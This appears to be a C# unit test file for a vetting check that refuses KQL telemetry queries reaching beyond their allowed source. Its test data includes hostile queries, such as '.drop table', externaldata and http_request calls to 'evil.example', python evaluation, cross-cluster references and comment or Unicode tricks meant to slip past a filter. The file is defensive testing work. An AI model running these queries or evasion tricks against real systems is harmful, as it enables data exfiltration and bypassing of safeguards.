using Stepdesk.Engine.Telemetry;

namespace Stepdesk.Tests.Asking;

/// <summary>What a query may not do before it leaves for a source that would do it.</summary>
public sealed class VettingTests
{
    [Theory]
    [InlineData(".drop table requests", ".drop")]
    [InlineData("  // harmless\n.show tables", ".show")]
    [InlineData("requests | union (externaldata(a:string)['https://evil.example/x'])", "externaldata")]
    [InlineData("EXTERNALDATA (a:string) ['x']", "EXTERNALDATA")]
    [InlineData("print 1 | evaluate http_request('https://evil.example')", "http_request")]
    [InlineData("requests | evaluate infer_storage_schema(dynamic({}))", "infer_storage_schema")]
    [InlineData("requests | evaluate ai_embeddings(name, 'https://evil.example')", "ai_embeddings")]
    [InlineData("requests | evaluate ['python'](typeof(*), 'x')", "python")]
    [InlineData("requests | evaluate hint.distribution=per_node hint.x=1 whatever(1)", "whatever")]
    [InlineData("requests | evaluate python(typeof(*), 'print(1)')", "python")]
    [InlineData("requests | evaluate hint.distribution=per_node python(typeof(*), 'x')", "python")]
    [InlineData("cluster('help').database('Samples').StormEvents", "cluster")]
    [InlineData("database('Samples').StormEvents", "database")]
    [InlineData("app('somebody-else').requests", "app('somebody-else')")]
    [InlineData("union workspace('w').AppRequests, requests", "workspace('w')")]
    [InlineData("let a = 'x'; app(a).requests", "app(a)")]
    [InlineData("['cluster']('help').database('Samples').T", "cluster")]
    [InlineData("[ 'clus\\x74er' ]('help').T", "cluster")]
    // A comment ends where Azure ends it.
    [InlineData("requests // a\r| union (externaldata(x:string)['u'])", "externaldata")]
    [InlineData("// a\r.show tables", ".show")]
    [InlineData("requests // a\u2028| union (externaldata(x:string)['u'])", "U+2028")]
    [InlineData("requests // a\u2029| union app('other').requests", "U+2029")]
    [InlineData("requests // a\u0085| union app('other').requests", "U+0085")]
    [InlineData("requests // a\f| union app('other').requests", "U+000C")]
    // Nothing that two readers could read differently leaves.
    [InlineData("requests | where name == 'a\u2028| union cluster('x').T", "'a")]
    [InlineData("requests | where name == 'open", "'open")]
    [InlineData("requests | where name == '\\q'", "\\q")]
    [InlineData("requests | where name == @h\"\\\" | union externaldata(x:string)[\"u\"] //\"", "@")]
    [InlineData("requests | where name == “a”", "“")]
    [InlineData("exter\u200Bnaldata(x:string)['u']", "U+200B")]
    [InlineData("requests\n#connect cluster", "#")]
    [InlineData("print ['a\\'] '] | union externaldata(x:string)[h'u'] // '", "externaldata")]
    [InlineData("print datetime(')' //' | union externaldata(x:string)['u']", "'")]
    [InlineData("print datetime (')' //' | union externaldata(x:string)['u']", "'")]
    [InlineData("print DateTime(')' //' | union externaldata(x:string)['u']", "'")]
    [InlineData("print real(1 // )\n)", "1 //")]
    public void A_query_reads_its_source_and_nothing_else(string query, string named)
    {
        var refusal = Vetting.Check(query, ["friend"]);

        Assert.Equal(("telemetry-query-not-allowed", named), (refusal?.Code, refusal?.Detail));
    }

    [Theory]
    [InlineData("requests\r\n// a note, with 'marks' and ``` too\r\n| where name == @\"C:\\x\" or name == h'a\\'b'")]
    [InlineData("requests | where timestamp > datetime('2026-03-02 10:00') and duration > real(1.5e3)")]
    [InlineData("requests | where timestamp > datetime(2026-03-02T10:00:00Z) | extend t = timespan(1.00:00:00)")]
    [InlineData("let t = ```\nmany lines ' \" // here\n```; print ['a column'] = t, d['x'], 5h")]
    [InlineData("requests | evaluate hint.distribution=per_node bag_unpack(customDimensions)")]
    [InlineData("requests | where cluster == 'a' and evaluate == 1 and python !in~ ('r', 'không') // được")]
    [InlineData("app('friend').requests | scan declare (x:long=0) with (step s: true => x = 1;)")]
    [InlineData("requests | where timestamp > datetime(now(-1h)) and long(null) != 5")]
    public void What_our_own_engine_does_not_know_leaves_all_the_same(string query) =>
        Assert.Null(Vetting.Check(query, ["friend"]));
}
